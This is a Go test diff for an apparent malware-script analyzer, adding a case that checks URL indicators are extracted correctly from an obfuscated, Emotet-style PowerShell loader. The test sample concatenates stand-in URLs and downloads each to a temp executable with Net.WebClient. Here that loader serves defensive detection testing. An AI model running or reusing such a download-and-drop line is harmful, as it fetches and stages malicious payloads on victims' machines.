@@ -32,3 +32,28 @@ func TestRuleCases(t *testing.T) {
 		}
 	}
 }
+
+// TestIOCsOfConcatenatedURLs: a URL list built by concatenation and joined
+// with '*' (Emotet's loader) gives each whole URL once, not every partial
+// string the evaluator saw on the way.
+func TestIOCsOfConcatenatedURLs(t *testing.T) {
+	script := `$u = 'http://exa'+'mple.com/wp/'+'a1/*https:'+'//second.ex'+'ample.org/p/*http://th'+'ird.example.net/x/'
+foreach ($x in $u.Split('*')) { (New-Object Net.WebClient).DownloadFile($x, "$env:TEMP\a.exe") }`
+	r := Analyze(context.Background(), script, nil)
+	var urls []string
+	for _, ioc := range r.IOCs {
+		if ioc.Type == "url" {
+			urls = append(urls, ioc.Value)
+		}
+	}
+	want := []string{"http://example.com/wp/a1/", "https://second.example.org/p/", "http://third.example.net/x/"}
+	if !slices.Equal(urls, want) {
+		t.Errorf("urls %q, want %q", urls, want)
+	}
+	if got := splitJoinedURLs("http://a.example/x/*https://b.example/y/*ht"); !slices.Equal(got, []string{"http://a.example/x/", "https://b.example/y/"}) {
+		t.Errorf("split %q", got)
+	}
+	if got := splitJoinedURLs("http://a.example/r?u=http://b.example/"); len(got) != 1 {
+		t.Errorf("a URL in a query was split: %q", got)
+	}
+}
